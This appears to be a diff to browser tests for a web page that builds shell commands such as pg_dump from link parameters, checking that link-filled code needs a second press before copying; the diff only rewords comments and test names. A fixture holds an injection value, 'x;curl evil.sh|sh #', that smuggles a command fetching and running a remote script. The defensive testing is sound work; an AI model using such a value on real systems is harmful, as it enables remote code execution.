@@ -17,14 +17,14 @@ const DUMP = `${site.url}/projects/commander/commands/dump`
 const HOSTILE = 'x;curl evil.sh|sh #'
 const HOSTILE_LINK = `${DUMP}#host=${encodeURIComponent(HOSTILE)}`
 
-// A little more than the time before a second press counts.
+// A little longer than the time before a second press counts.
 const READING_MS = 1100
 
 after(closeBrowser)
 after(site.close)
 
-describe('copying code from a link', () => {
-  test('shows code first and copies at the second press', async () => {
+describe('copying code that a link filled in', () => {
+  test('shows the code first, and copies at the second press', async () => {
     const { page, leave } = await aVisitor()
     const { copyButton, line } = await openCard(page, HOSTILE_LINK)
     await eventually(() => line.textContent(), `pg_dump -h ${HOSTILE} -p 5432`)
@@ -62,7 +62,7 @@ describe('copying code from a link', () => {
 })
 
 describe('copying other values', () => {
-  test('asks nothing for plain values or those typed over it', async () => {
+  test('needs no second press if they are plain or typed over', async () => {
     const { page, leave } = await aVisitor()
     const { field, line } = await openCard(page, `${DUMP}#host=me@db-1.example.org:22/a_b,c=d`)
     await eventually(() => line.textContent(), 'pg_dump -h me@db-1.example.org:22/a_b,c=d -p 5432')
@@ -74,7 +74,7 @@ describe('copying other values', () => {
     await leave()
   })
 
-  test('still asks after an edit or in another card', async () => {
+  test('still needs a second press after an edit or in another card', async () => {
     const { page, leave } = await aVisitor()
     const { field, copyButton } = await openCard(page, HOSTILE_LINK)
     await field('host from the link').press('End')
